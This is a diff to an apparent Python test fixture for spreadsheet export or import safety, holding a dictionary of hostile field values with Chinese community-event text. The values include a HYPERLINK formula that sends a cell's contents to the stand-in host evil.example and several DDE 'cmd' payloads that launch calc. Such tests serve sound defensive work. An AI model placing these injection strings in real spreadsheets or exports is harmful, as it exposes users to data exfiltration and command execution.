@@ -208,8 +208,8 @@ def test_trimming_import_would_run_a_spaced_formula(tmp_path: Path) -> None:
 HOSTILE = {
     "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击领取科普奖品\")",
     "venue": "+cmd|' /C calc'!A0 科普活动室",
-    "address": "@SUM(1+1)*cmd|' /C calc'!A0 新北街道，含,逗号\"引号\"\n第二行",
-    "community": "-2+3+cmd|' /C calc'!A0 金江社区",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0 新北街道，含,逗号\"引号\"",  # one line: an address has no break
+    "community": "-2+3+cmd|' /C calc'!A0 金江社区\n第二行",
     "cost": "-5人起，材料费 10 元",
     "phone": "+86 22 2560 0000",
     "team": "=SUM(1,2)科普志愿服务队",
